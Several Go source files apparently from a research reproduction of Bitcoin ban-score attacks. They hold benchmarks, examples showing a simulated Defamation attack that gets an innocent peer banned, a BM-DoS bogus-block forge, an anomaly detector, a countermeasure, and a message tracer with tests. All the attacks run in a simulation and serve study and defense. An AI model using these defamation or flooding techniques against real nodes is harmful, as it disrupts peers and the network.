	builders := []func() mlbase.Model{
		func() mlbase.Model { return &mlbase.LogisticRegression{} },
		func() mlbase.Model { return &mlbase.LinearSVM{} },
		func() mlbase.Model { return &mlbase.OneClassSVM{} },
		func() mlbase.Model { return &mlbase.RandomForest{Trees: 20} },
		func() mlbase.Model { return &mlbase.DNN{Epochs: 20} },
		func() mlbase.Model { return &mlbase.AutoEncoder{Epochs: 20} },
		func() mlbase.Model { return &mlbase.GradientBoosting{Rounds: 5} },
	}
	for _, build := range builders {
		name := build().Name()
		b.Run(name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				if err := build().Train(x, y); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkAblationChecksumOrdering contrasts the transport-layer drop of a
// bogus-checksum BLOCK against full validation of the same payload with a
// correct checksum — the ordering property BM-DoS vector 2 exploits.
func BenchmarkAblationChecksumOrdering(b *testing.B) {
	params := blockchain.SimNetParams()
	forge := attack.NewForge(params)
	block := forge.BogusBlock(400)
	if _, err := blockchain.Solve(block, params.PowLimit); err != nil {
		b.Fatal(err)
	}
	payload := attack.EncodeBlock(block)

	frame := func(checksumOK bool) []byte {
		var buf bytes.Buffer
		if checksumOK {
			_, _ = wire.WriteRawMessage(&buf, wire.CmdBlock, payload, wire.SimNet)
		} else {
			_, _ = wire.WriteRawMessageChecksum(&buf, wire.CmdBlock, payload, wire.SimNet, [4]byte{1, 2, 3, 4})
		}
		return buf.Bytes()
	}
	badFrame, goodFrame := frame(false), frame(true)

	b.Run("bad-checksum-dropped-at-transport", func(b *testing.B) {
		b.SetBytes(int64(len(badFrame)))
		for i := 0; i < b.N; i++ {
			_, _, err := wire.ReadMessage(bytes.NewReader(badFrame), wire.ProtocolVersion, wire.SimNet)
			if err == nil {
				b.Fatal("bogus frame accepted")
			}
		}
	})
	b.Run("good-checksum-full-validation", func(b *testing.B) {
		chain := blockchain.New(params)
		b.SetBytes(int64(len(goodFrame)))
		for i := 0; i < b.N; i++ {
			msg, _, err := wire.ReadMessage(bytes.NewReader(goodFrame), wire.ProtocolVersion, wire.SimNet)
			if err != nil {
				b.Fatal(err)
			}
			_, _ = chain.ProcessBlock(msg.(*wire.MsgBlock)) // orphan: full sanity every time
		}
	})
}

// BenchmarkAblationBanGranularity compares tracking by [IP:Port] (the
// paper's spoofable identifier) against whole-IP tracking.
func BenchmarkAblationBanGranularity(b *testing.B) {
	b.Run("per-ip-port", func(b *testing.B) {
		tr := core.NewTracker(core.Config{Mode: core.ModeThresholdInfinity})
		for i := 0; i < b.N; i++ {
			id := core.PeerIDFromAddr(fmt.Sprintf("10.0.0.2:%d", 49152+i%16384))
			tr.Misbehaving(id, true, core.VersionDuplicate)
		}
	})
	b.Run("per-ip", func(b *testing.B) {
		tr := core.NewTracker(core.Config{Mode: core.ModeThresholdInfinity})
		id := core.PeerIDFromAddr("10.0.0.2:0") // one bucket per IP
		for i := 0; i < b.N; i++ {
			tr.Misbehaving(id, true, core.VersionDuplicate)
		}
	})
}

// BenchmarkAblationDetectionWindow sweeps the detection window length the
// engine aggregates over (the paper uses 10 minutes).
func BenchmarkAblationDetectionWindow(b *testing.B) {
	t0 := time.Unix(1700000000, 0)
	events := traffic.NewGenerator(42).Events(t0, 35*time.Hour)
	for _, window := range []time.Duration{time.Minute, 10 * time.Minute, time.Hour} {
		b.Run(window.String(), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				windows := detect.WindowsFromEvents(events, nil, window)
				if _, _, err := detect.Train(windows, detect.Config{}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkWireBlockRoundTrip measures serialization throughput of the
// largest message the attacks lean on.
func BenchmarkWireBlockRoundTrip(b *testing.B) {
	forge := attack.NewForge(blockchain.SimNetParams())
	block := forge.BogusBlock(400)
	var buf bytes.Buffer
	if err := block.BtcEncode(&buf, wire.ProtocolVersion); err != nil {
		b.Fatal(err)
	}
	raw := buf.Bytes()
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		var out wire.MsgBlock
		if err := out.BtcDecode(bytes.NewReader(raw), wire.ProtocolVersion); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkMerkleRoot measures the merkle computation at the block sizes
// the experiments use.
func BenchmarkMerkleRoot(b *testing.B) {
	for _, n := range []int{100, 400, 2000} {
		leaves := make([]chainhash.Hash, n)
		for i := range leaves {
			leaves[i] = chainhash.DoubleHashH([]byte{byte(i), byte(i >> 8)})
		}
		b.Run(fmt.Sprintf("%d-leaves", n), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				chainhash.MerkleRoot(leaves)
			}
		})
	}
}
