package banscore_test

import (
	"fmt"
	"time"

	"banscore"
	"banscore/internal/core"
	"banscore/internal/detect"
	"banscore/internal/traffic"
	"banscore/internal/wire"
)

// Example demonstrates the paper's central finding end to end: a spoofable
// [IP:Port] identifier plus the ban-score mechanism lets an attacker get an
// innocent peer banned.
func Example() {
	sim := banscore.NewSimulation()
	defer sim.Close()

	target, err := sim.StartNode("10.0.0.1:8333")
	if err != nil {
		panic(err)
	}
	defer target.Stop()

	attacker := sim.NewAttacker("10.0.0.66", target.Addr())
	const innocent = "10.0.0.77:50001"
	if _, err := attacker.DefamePreConnection(innocent); err != nil {
		panic(err)
	}
	fmt.Println("innocent banned:", target.IsBanned(core.PeerIDFromAddr(innocent)))
	// Output: innocent banned: true
}

// ExampleBanRules lists the Table I rules that survive into Bitcoin Core
// 0.22.0 for the VERSION message — none, which is why the Defamation
// primitive studied by the paper no longer scores there.
func ExampleBanRules() {
	for _, rule := range banscore.BanRules() {
		if rule.MessageType != "VERSION" {
			continue
		}
		_, in20 := rule.ScoreIn(core.V0_20_0)
		_, in22 := rule.ScoreIn(core.V0_22_0)
		fmt.Printf("%s: 0.20.0=%v 0.22.0=%v\n", rule.Misbehavior, in20, in22)
	}
	// Output:
	// Duplicate VERSION: 0.20.0=true 0.22.0=false
	// Message before VERSION: 0.20.0=true 0.22.0=false
}

// ExampleNewDetector trains the paper's anomaly detector on synthetic
// normal traffic and flags a BM-DoS flood.
func ExampleNewDetector() {
	t0 := time.Unix(1700000000, 0)
	d := banscore.NewDetector(detect.DefaultWindow)

	normal := detect.WindowsFromEvents(
		traffic.NewGenerator(42).Events(t0, 12*time.Hour), nil, detect.DefaultWindow)
	if _, err := d.TrainOn(normal); err != nil {
		panic(err)
	}

	floodStart := t0.Add(100 * time.Hour)
	attacked := detect.WindowsFromEvents(traffic.Overlay(
		traffic.NewGenerator(7).Events(floodStart, time.Hour),
		traffic.FloodEvents(wire.CmdPing, floodStart, time.Hour, 15000),
	), nil, detect.DefaultWindow)

	verdicts, err := d.DetectWindows(attacked)
	if err != nil {
		panic(err)
	}
	flagged := 0
	for _, v := range verdicts {
		if v.Anomalous {
			flagged++
		}
	}
	fmt.Printf("flagged %d/%d windows\n", flagged, len(verdicts))
	// Output: flagged 5/5 windows
}

// ExampleWithTrackerMode shows the §VIII good-score countermeasure
// neutralizing the Defamation primitive.
func ExampleWithTrackerMode() {
	sim := banscore.NewSimulation()
	defer sim.Close()

	protected, err := sim.StartNode("10.0.0.1:8333",
		banscore.WithTrackerMode(banscore.ModeGoodScore))
	if err != nil {
		panic(err)
	}
	defer protected.Stop()

	attacker := sim.NewAttacker("10.0.0.66", protected.Addr())
	s, err := attacker.OpenSessionAs("10.0.0.77:50001")
	if err != nil {
		panic(err)
	}
	defer s.Close()
	for i := 0; i < 300; i++ {
		if err := s.Send(s.Version()); err != nil {
			panic(err)
		}
	}
	fmt.Println("banned:", protected.IsBanned(core.PeerIDFromAddr("10.0.0.77:50001")))
	// Output: banned: false
}
