// Package trace implements the reproduction's message-lifecycle tracer: a
// sampled, ring-buffered span store threaded through every hop a message
// takes — the simnet fabric write, wire decode in the peer read loop, the
// node's application-layer dispatch, any core.Tracker.Misbehaving call it
// triggers, the outbound send queue and encode, and the detection engine's
// window roll-ups. Each sampled message gets a trace ID that ties its spans
// (and any ban-ledger records it produced) into one causal chain, which is
// what turns the paper's attribution questions — *why* was this peer banned,
// *where* does an attack message spend its cost (Table II) — into queries.
//
// The tracer follows the telemetry layer's fast-path discipline: when
// disabled (or nil) a call site pays one atomic load; when enabled, only
// 1-in-N messages are promoted to a trace, and unsampled messages pay one
// atomic load plus one atomic increment. Spans are retained in a fixed ring;
// the overwrite count is exposed so forensic gaps are visible.
package trace

import (
	"sync"
	"sync/atomic"
	"time"

	"banscore/internal/telemetry"
)

// Stage names one hop of the message lifecycle. The set is closed: per-stage
// latency histograms are pre-registered by Instrument, and the Chrome export
// groups rows by stage name.
type Stage string

// The lifecycle stages, in pipeline order.
const (
	// StageConnWrite is one fabric write (including any fault-layer delay
	// and receiver back-pressure) on a simnet connection.
	StageConnWrite Stage = "conn_write"

	// StageWireDecode is the peer read loop's framing + decode of one
	// inbound message. Its duration includes time blocked waiting for
	// bytes, so it bounds network idle + transfer + parse.
	StageWireDecode Stage = "wire_decode"

	// StageHandle is the node's application-layer dispatch — the work the
	// paper's Table II prices per message type.
	StageHandle Stage = "handle"

	// StageMisbehave is one core.Tracker.Misbehaving call (Table I rule
	// application) reached from a traced dispatch.
	StageMisbehave Stage = "misbehave"

	// StageSendQueue is the time an outbound message waited in the peer's
	// send queue before the write loop dequeued it (back-pressure).
	StageSendQueue Stage = "send_queue"

	// StageWireEncode is the write loop's encode + write to the wire.
	StageWireEncode Stage = "wire_encode"

	// StageDetectWindow marks a detection window the Monitor closed while
	// tracing was enabled (recorded unsampled — windows are rare).
	StageDetectWindow Stage = "detect_window"
)

// Stages lists every lifecycle stage in pipeline order.
func Stages() []Stage {
	return []Stage{
		StageConnWrite, StageWireDecode, StageHandle, StageMisbehave,
		StageSendQueue, StageWireEncode, StageDetectWindow,
	}
}

// Span is one recorded lifecycle hop.
type Span struct {
	// TraceID ties the span to the sampled message it belongs to. IDs are
	// node-local, dense, and start at 1; 0 never appears.
	TraceID uint64 `json:"trace_id"`

	Stage Stage `json:"stage"`

	// Peer is the [IP:Port] connection identifier involved, if any.
	Peer string `json:"peer,omitempty"`

	// Cmd is the wire command being carried, if any.
	Cmd string `json:"cmd,omitempty"`

	// Rule is the Table I rule name for misbehave spans.
	Rule string `json:"rule,omitempty"`

	// Note is free-form stage context (e.g. window stats).
	Note string `json:"note,omitempty"`

	Start    time.Time     `json:"start"`
	Duration time.Duration `json:"duration_ns"`
}

// DefaultSampleN traces one message in 64 — the same thinning factor as the
// telemetry layer's dispatch-latency sampler, for the same reason: two clock
// reads per message would dominate the per-message budget.
const DefaultSampleN = 64

// DefaultCapacity bounds a tracer ring built with capacity <= 0.
const DefaultCapacity = 8192

// Config parameterizes a Tracer.
type Config struct {
	// SampleN promotes one message in SampleN to a trace. Values are
	// rounded up to a power of two so the sampler is a mask test; <= 0
	// selects DefaultSampleN, 1 traces everything.
	SampleN int

	// Capacity is the span ring size; <= 0 selects DefaultCapacity.
	Capacity int
}

// Tracer samples messages into lifecycle traces. A nil *Tracer is a valid
// no-op: every method checks for it, so call sites thread the pointer
// unconditionally. Tracer is safe for concurrent use.
type Tracer struct {
	enabled atomic.Bool
	mask    uint64 // sampleN-1, sampleN a power of two

	seq     atomic.Uint64 // messages offered to the sampler
	ids     atomic.Uint64 // trace IDs handed out
	sampled atomic.Uint64 // messages promoted to a trace

	mu      sync.Mutex
	ring    []Span
	next    int
	total   uint64 // spans ever recorded
	dropped uint64 // spans overwritten by the ring
	hists   map[Stage]*telemetry.Histogram
}

// New builds a Tracer. It starts disabled; call Enable.
func New(cfg Config) *Tracer {
	n := cfg.SampleN
	if n <= 0 {
		n = DefaultSampleN
	}
	pow := 1
	for pow < n {
		pow <<= 1
	}
	capacity := cfg.Capacity
	if capacity <= 0 {
		capacity = DefaultCapacity
	}
	return &Tracer{
		mask: uint64(pow - 1),
		ring: make([]Span, 0, capacity),
	}
}

// Enable arms the tracer. Nil-safe.
func (t *Tracer) Enable() {
	if t != nil {
		t.enabled.Store(true)
	}
}

// Disable disarms the tracer; retained spans stay queryable.
func (t *Tracer) Disable() {
	if t != nil {
		t.enabled.Store(false)
	}
}

// Armed reports whether the tracer exists and is enabled — the single
// atomic load the hot path pays when tracing is off.
func (t *Tracer) Armed() bool { return t != nil && t.enabled.Load() }

// SampleN returns the effective 1-in-N sampling factor.
func (t *Tracer) SampleN() int {
	if t == nil {
		return 0
	}
	return int(t.mask) + 1
}

// Capacity returns the span ring size.
func (t *Tracer) Capacity() int {
	if t == nil {
		return 0
	}
	return cap(t.ring)
}

// Sample offers one message to the sampler. It returns a non-nil Ctx for
// the 1-in-N messages promoted to a trace, nil otherwise (and always nil
// when the tracer is disabled or nil).
func (t *Tracer) Sample() *Ctx {
	if t == nil || !t.enabled.Load() {
		return nil
	}
	if t.seq.Add(1)&t.mask != 0 {
		return nil
	}
	t.sampled.Add(1)
	return &Ctx{t: t, id: t.ids.Add(1)}
}

// Always returns a Ctx bypassing the 1-in-N sampler (still nil when the
// tracer is disabled). It is for rare, high-value events — detection window
// closures — where thinning would lose the whole signal.
func (t *Tracer) Always() *Ctx {
	if t == nil || !t.enabled.Load() {
		return nil
	}
	t.sampled.Add(1)
	return &Ctx{t: t, id: t.ids.Add(1)}
}

// Ctx is one sampled message's trace handle. A nil *Ctx is a valid no-op so
// call sites record unconditionally.
type Ctx struct {
	t  *Tracer
	id uint64
}

// TraceID returns the trace identifier, or 0 for a nil Ctx.
func (c *Ctx) TraceID() uint64 {
	if c == nil {
		return 0
	}
	return c.id
}

// Add records sp into the trace, stamping its TraceID. Nil-safe.
func (c *Ctx) Add(sp Span) {
	if c == nil {
		return
	}
	sp.TraceID = c.id
	c.t.record(sp)
}

// Record is the common-case Add: a stage with peer and command context.
func (c *Ctx) Record(stage Stage, peer, cmd string, start time.Time, d time.Duration) {
	if c == nil {
		return
	}
	c.t.record(Span{TraceID: c.id, Stage: stage, Peer: peer, Cmd: cmd, Start: start, Duration: d})
}

// record appends sp to the ring and feeds the per-stage latency histogram.
func (t *Tracer) record(sp Span) {
	t.mu.Lock()
	t.total++
	if len(t.ring) < cap(t.ring) {
		t.ring = append(t.ring, sp)
	} else {
		t.ring[t.next] = sp
		t.dropped++
	}
	t.next++
	if t.next == cap(t.ring) {
		t.next = 0
	}
	h := t.hists[sp.Stage]
	t.mu.Unlock()
	if h != nil {
		h.Observe(sp.Duration.Seconds())
	}
}

// Spans returns the retained spans, oldest first.
func (t *Tracer) Spans() []Span {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]Span, 0, len(t.ring))
	if len(t.ring) < cap(t.ring) {
		return append(out, t.ring...)
	}
	out = append(out, t.ring[t.next:]...)
	return append(out, t.ring[:t.next]...)
}

// Stats reports (spans ever recorded, spans overwritten, messages sampled).
func (t *Tracer) Stats() (total, dropped, sampled uint64) {
	if t == nil {
		return 0, 0, 0
	}
	t.mu.Lock()
	total, dropped = t.total, t.dropped
	t.mu.Unlock()
	return total, dropped, t.sampled.Load()
}

// Reset clears the span ring (counters keep accumulating).
func (t *Tracer) Reset() {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.ring = t.ring[:0]
	t.next = 0
	t.mu.Unlock()
}

// Instrument registers the tracer's series on reg: per-stage latency
// histograms (trace_stage_seconds{stage=...}) plus span/sample/drop
// counters. Stage histograms are pre-created for the closed stage set so the
// record path is a plain map read under the ring lock.
func (t *Tracer) Instrument(reg *telemetry.Registry) {
	if t == nil || reg == nil {
		return
	}
	reg.Describe("trace_stage_seconds", "Per-stage message lifecycle latency from sampled traces.")
	reg.Describe("trace_spans_total", "Lifecycle spans ever recorded.")
	reg.Describe("trace_spans_dropped_total", "Spans overwritten by the trace ring before export.")
	reg.Describe("trace_sampled_messages_total", "Messages promoted to a lifecycle trace.")
	hists := make(map[Stage]*telemetry.Histogram, len(Stages()))
	for _, stage := range Stages() {
		hists[stage] = reg.Histogram("trace_stage_seconds", telemetry.L("stage", string(stage)))
	}
	t.mu.Lock()
	t.hists = hists
	t.mu.Unlock()
	reg.CounterFunc("trace_spans_total", func() float64 {
		total, _, _ := t.Stats()
		return float64(total)
	})
	reg.CounterFunc("trace_spans_dropped_total", func() float64 {
		_, dropped, _ := t.Stats()
		return float64(dropped)
	})
	reg.CounterFunc("trace_sampled_messages_total", func() float64 {
		_, _, sampled := t.Stats()
		return float64(sampled)
	})
}
