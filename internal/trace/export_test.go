package trace

import (
	"bytes"
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

func TestWriteChromeEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteChrome(&buf, nil); err != nil {
		t.Fatal(err)
	}
	var doc chromeDoc
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.DisplayTimeUnit != "ms" || len(doc.TraceEvents) != 0 {
		t.Errorf("empty export: %+v", doc)
	}
}

func TestWriteChromeStructure(t *testing.T) {
	base := time.Date(2026, 8, 5, 12, 0, 0, 0, time.UTC)
	spans := []Span{
		{TraceID: 7, Stage: StageHandle, Peer: "10.0.0.2:1", Cmd: "addr",
			Start: base.Add(time.Millisecond), Duration: 2 * time.Millisecond},
		{TraceID: 7, Stage: StageMisbehave, Peer: "10.0.0.2:1", Cmd: "addr", Rule: "AddrOversize",
			Start: base.Add(3 * time.Millisecond), Duration: time.Millisecond},
		{TraceID: 9, Stage: StageDetectWindow, Note: "messages=5 reconnects=0",
			Start: base, Duration: 250 * time.Millisecond},
	}
	var buf bytes.Buffer
	if err := WriteChrome(&buf, spans); err != nil {
		t.Fatal(err)
	}
	var doc chromeDoc
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("export is not valid JSON: %v", err)
	}

	// Two lanes ("node" for the peerless window, one per peer), each named
	// by an M metadata event, plus one X event per span.
	var meta, complete []chromeEvent
	for _, ev := range doc.TraceEvents {
		switch ev.Ph {
		case "M":
			meta = append(meta, ev)
		case "X":
			complete = append(complete, ev)
		default:
			t.Fatalf("unexpected phase %q", ev.Ph)
		}
	}
	if len(meta) != 2 || len(complete) != 3 {
		t.Fatalf("got %d metadata + %d complete events, want 2+3", len(meta), len(complete))
	}
	laneNames := map[string]bool{}
	for _, ev := range meta {
		if ev.Name != "thread_name" || ev.Pid != 1 {
			t.Errorf("bad metadata event %+v", ev)
		}
		laneNames[ev.Args["name"].(string)] = true
	}
	if !laneNames["node"] || !laneNames["peer 10.0.0.2:1"] {
		t.Errorf("lane names %v", laneNames)
	}

	// ts is µs relative to the earliest span (the detect window at base).
	byName := map[string]chromeEvent{}
	for _, ev := range complete {
		byName[ev.Name] = ev
		if ev.Pid != 1 || ev.Cat != "lifecycle" || ev.Ts < 0 {
			t.Errorf("bad complete event %+v", ev)
		}
	}
	if ev := byName["handle"]; ev.Ts != 1000 || ev.Dur != 2000 || ev.Args["cmd"] != "addr" {
		t.Errorf("handle event %+v", ev)
	}
	if ev := byName["misbehave"]; ev.Args["rule"] != "AddrOversize" || ev.Args["trace_id"] != float64(7) {
		t.Errorf("misbehave event %+v", ev)
	}
	if ev := byName["detect_window"]; ev.Ts != 0 || ev.Dur != 250000 || ev.Args["note"] != "messages=5 reconnects=0" {
		t.Errorf("detect_window event %+v", ev)
	}
}

func TestExportHandler(t *testing.T) {
	tr := New(Config{SampleN: 1})
	tr.Enable()
	tr.Always().Record(StageHandle, "p:1", "ping", time.Now(), time.Millisecond)

	rec := httptest.NewRecorder()
	tr.ExportHandler().ServeHTTP(rec, httptest.NewRequest("GET", "/debug/trace/export", nil))
	if rec.Code != 200 {
		t.Fatalf("export: HTTP %d", rec.Code)
	}
	if cd := rec.Header().Get("Content-Disposition"); !strings.Contains(cd, "trace.json") {
		t.Errorf("Content-Disposition %q", cd)
	}
	var doc chromeDoc
	if err := json.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
		t.Fatalf("export is not valid JSON: %v", err)
	}
	if len(doc.TraceEvents) != 2 { // 1 lane metadata + 1 span
		t.Errorf("export holds %d events, want 2", len(doc.TraceEvents))
	}
}
