package trace

import (
	"bytes"
	"encoding/json"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"banscore/internal/telemetry"
)

func TestNilTracerIsNoOp(t *testing.T) {
	var tr *Tracer
	if tr.Armed() {
		t.Error("nil tracer armed")
	}
	tr.Enable()
	tr.Disable()
	tr.Reset()
	tr.Instrument(telemetry.NewRegistry())
	if ctx := tr.Sample(); ctx != nil {
		t.Error("nil tracer sampled")
	}
	if ctx := tr.Always(); ctx != nil {
		t.Error("nil tracer Always returned a ctx")
	}
	if got := tr.SampleN(); got != 0 {
		t.Errorf("nil SampleN = %d", got)
	}
	if spans := tr.Spans(); spans != nil {
		t.Errorf("nil Spans = %v", spans)
	}
	total, dropped, sampled := tr.Stats()
	if total != 0 || dropped != 0 || sampled != 0 {
		t.Error("nil Stats non-zero")
	}

	var ctx *Ctx
	if ctx.TraceID() != 0 {
		t.Error("nil ctx has a trace ID")
	}
	ctx.Add(Span{Stage: StageHandle})
	ctx.Record(StageHandle, "p", "ping", time.Now(), time.Millisecond)
}

func TestDisabledTracerNeverSamples(t *testing.T) {
	tr := New(Config{SampleN: 1})
	for i := 0; i < 100; i++ {
		if ctx := tr.Sample(); ctx != nil {
			t.Fatal("disabled tracer sampled")
		}
	}
	if tr.Always() != nil {
		t.Fatal("disabled tracer Always returned a ctx")
	}
}

func TestSamplingRatio(t *testing.T) {
	tr := New(Config{SampleN: 8})
	tr.Enable()
	hits := 0
	for i := 0; i < 800; i++ {
		if ctx := tr.Sample(); ctx != nil {
			hits++
			if ctx.TraceID() == 0 {
				t.Fatal("sampled ctx with zero trace ID")
			}
		}
	}
	if hits != 100 {
		t.Errorf("sampled %d of 800 at 1-in-8, want 100", hits)
	}
	if _, _, sampled := tr.Stats(); sampled != 100 {
		t.Errorf("sampled counter %d, want 100", sampled)
	}
}

func TestSampleNRoundsUpToPowerOfTwo(t *testing.T) {
	for _, tc := range []struct{ in, want int }{
		{0, DefaultSampleN}, {-3, DefaultSampleN}, {1, 1}, {2, 2}, {3, 4},
		{64, 64}, {100, 128},
	} {
		if got := New(Config{SampleN: tc.in}).SampleN(); got != tc.want {
			t.Errorf("SampleN %d -> %d, want %d", tc.in, got, tc.want)
		}
	}
}

func TestTraceIDsAreDenseAndDistinct(t *testing.T) {
	tr := New(Config{SampleN: 1})
	tr.Enable()
	for want := uint64(1); want <= 5; want++ {
		ctx := tr.Sample()
		if ctx == nil || ctx.TraceID() != want {
			t.Fatalf("trace ID %v, want %d", ctx.TraceID(), want)
		}
	}
	if ctx := tr.Always(); ctx.TraceID() != 6 {
		t.Fatalf("Always trace ID %d, want 6", ctx.TraceID())
	}
}

func TestRingWrapAndDropCounter(t *testing.T) {
	tr := New(Config{SampleN: 1, Capacity: 4})
	tr.Enable()
	ctx := tr.Always()
	base := time.Now()
	for i := 0; i < 7; i++ {
		ctx.Record(StageHandle, "p", "ping", base.Add(time.Duration(i)*time.Millisecond), time.Millisecond)
	}
	spans := tr.Spans()
	if len(spans) != 4 {
		t.Fatalf("ring holds %d spans, want 4", len(spans))
	}
	// Oldest-first: the survivors are records 3..6.
	for i, sp := range spans {
		if want := base.Add(time.Duration(i+3) * time.Millisecond); !sp.Start.Equal(want) {
			t.Errorf("span %d start %v, want %v", i, sp.Start, want)
		}
	}
	total, dropped, _ := tr.Stats()
	if total != 7 || dropped != 3 {
		t.Errorf("total=%d dropped=%d, want 7/3", total, dropped)
	}

	tr.Reset()
	if len(tr.Spans()) != 0 {
		t.Error("Reset left spans behind")
	}
}

func TestInstrumentFeedsStageHistograms(t *testing.T) {
	reg := telemetry.NewRegistry()
	tr := New(Config{SampleN: 1})
	tr.Instrument(reg)
	tr.Enable()
	tr.Always().Record(StageWireDecode, "p", "ping", time.Now(), 2*time.Millisecond)
	tr.Always().Add(Span{Stage: StageMisbehave, Rule: "AddrOversize", Duration: time.Millisecond})

	var buf bytes.Buffer
	if err := telemetry.WritePrometheus(&buf, reg); err != nil {
		t.Fatal(err)
	}
	text := buf.String()
	for _, want := range []string{
		`trace_stage_seconds_bucket{stage="wire_decode",le="+Inf"} 1`,
		`trace_stage_seconds_bucket{stage="misbehave",le="+Inf"} 1`,
		"trace_spans_total 2",
		"trace_sampled_messages_total 2",
		"trace_spans_dropped_total 0",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("exposition missing %q", want)
		}
	}
}

func TestConcurrentRecording(t *testing.T) {
	tr := New(Config{SampleN: 1, Capacity: 128})
	tr.Enable()
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				if ctx := tr.Sample(); ctx != nil {
					ctx.Record(StageHandle, "p", "ping", time.Now(), time.Microsecond)
				}
			}
		}()
	}
	wg.Wait()
	total, dropped, sampled := tr.Stats()
	if sampled != 1600 || total != 1600 {
		t.Errorf("sampled=%d total=%d, want 1600", sampled, total)
	}
	if dropped != 1600-128 {
		t.Errorf("dropped=%d, want %d", dropped, 1600-128)
	}
}

func TestQueryHandlerFilters(t *testing.T) {
	tr := New(Config{SampleN: 1})
	tr.Enable()
	a := tr.Sample()
	a.Record(StageWireDecode, "1.1.1.1:1", "addr", time.Now(), time.Millisecond)
	a.Record(StageHandle, "1.1.1.1:1", "addr", time.Now(), time.Millisecond)
	b := tr.Sample()
	b.Record(StageHandle, "2.2.2.2:2", "ping", time.Now(), time.Millisecond)

	get := func(path string) queryResponse {
		t.Helper()
		rec := httptest.NewRecorder()
		tr.QueryHandler().ServeHTTP(rec, httptest.NewRequest("GET", path, nil))
		if rec.Code != 200 {
			t.Fatalf("GET %s: %d", path, rec.Code)
		}
		var resp queryResponse
		if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		return resp
	}

	all := get("/debug/trace")
	if !all.Enabled || all.SampleN != 1 || len(all.Spans) != 3 || all.Total != 3 {
		t.Fatalf("unfiltered response: %+v", all)
	}
	if got := get("/debug/trace?peer=1.1.1.1:1"); len(got.Spans) != 2 {
		t.Errorf("peer filter returned %d spans, want 2", len(got.Spans))
	}
	if got := get("/debug/trace?stage=handle"); len(got.Spans) != 2 {
		t.Errorf("stage filter returned %d spans, want 2", len(got.Spans))
	}
	if got := get("/debug/trace?cmd=ping"); len(got.Spans) != 1 {
		t.Errorf("cmd filter returned %d spans, want 1", len(got.Spans))
	}
	if got := get("/debug/trace?trace=1"); len(got.Spans) != 2 {
		t.Errorf("trace filter returned %d spans, want 2", len(got.Spans))
	}
	if got := get("/debug/trace?n=1"); len(got.Spans) != 1 || got.Spans[0].Cmd != "ping" {
		t.Errorf("tail filter returned %+v", got.Spans)
	}
	if got := get("/debug/trace?peer=nobody"); got.Spans == nil || len(got.Spans) != 0 {
		t.Errorf("empty filter must serve [], got %+v", got.Spans)
	}
}
