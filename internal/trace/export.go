package trace

import (
	"encoding/json"
	"io"
	"net/http"
	"sort"
	"strconv"
)

// chromeEvent is one entry of the Chrome trace-event format ("X" complete
// events plus "M" metadata rows naming the per-peer lanes). Timestamps and
// durations are microseconds; ts is relative to the earliest retained span
// so the viewer opens at the data.
type chromeEvent struct {
	Name string         `json:"name"`
	Cat  string         `json:"cat,omitempty"`
	Ph   string         `json:"ph"`
	Ts   float64        `json:"ts"`
	Dur  float64        `json:"dur,omitempty"`
	Pid  int            `json:"pid"`
	Tid  int            `json:"tid"`
	Args map[string]any `json:"args,omitempty"`
}

// chromeDoc is the JSON object chrome://tracing and Perfetto load.
type chromeDoc struct {
	DisplayTimeUnit string        `json:"displayTimeUnit"`
	TraceEvents     []chromeEvent `json:"traceEvents"`
}

// WriteChrome renders spans as Chrome trace-event JSON. Each peer (and the
// peerless stages, e.g. detection windows) gets its own lane ("thread"),
// named by an "M" metadata event; spans become "X" complete events carrying
// trace ID, command, and rule in args.
func WriteChrome(w io.Writer, spans []Span) error {
	doc := chromeDoc{DisplayTimeUnit: "ms", TraceEvents: []chromeEvent{}}
	if len(spans) == 0 {
		return json.NewEncoder(w).Encode(doc)
	}

	base := spans[0].Start
	for _, sp := range spans[1:] {
		if sp.Start.Before(base) {
			base = sp.Start
		}
	}

	// Stable lane assignment: sorted peer names, so repeated exports of
	// the same ring agree.
	laneNames := make(map[string]struct{})
	for _, sp := range spans {
		laneNames[laneName(sp)] = struct{}{}
	}
	sorted := make([]string, 0, len(laneNames))
	for name := range laneNames {
		sorted = append(sorted, name)
	}
	sort.Strings(sorted)
	lanes := make(map[string]int, len(sorted))
	for i, name := range sorted {
		tid := i + 1
		lanes[name] = tid
		doc.TraceEvents = append(doc.TraceEvents, chromeEvent{
			Name: "thread_name",
			Ph:   "M",
			Pid:  1,
			Tid:  tid,
			Args: map[string]any{"name": name},
		})
	}

	for _, sp := range spans {
		args := map[string]any{"trace_id": sp.TraceID}
		if sp.Cmd != "" {
			args["cmd"] = sp.Cmd
		}
		if sp.Rule != "" {
			args["rule"] = sp.Rule
		}
		if sp.Note != "" {
			args["note"] = sp.Note
		}
		doc.TraceEvents = append(doc.TraceEvents, chromeEvent{
			Name: string(sp.Stage),
			Cat:  "lifecycle",
			Ph:   "X",
			Ts:   float64(sp.Start.Sub(base).Nanoseconds()) / 1e3,
			Dur:  float64(sp.Duration.Nanoseconds()) / 1e3,
			Pid:  1,
			Tid:  lanes[laneName(sp)],
			Args: args,
		})
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", " ")
	return enc.Encode(doc)
}

func laneName(sp Span) string {
	if sp.Peer == "" {
		return "node"
	}
	return "peer " + sp.Peer
}

// queryResponse is the /debug/trace JSON document.
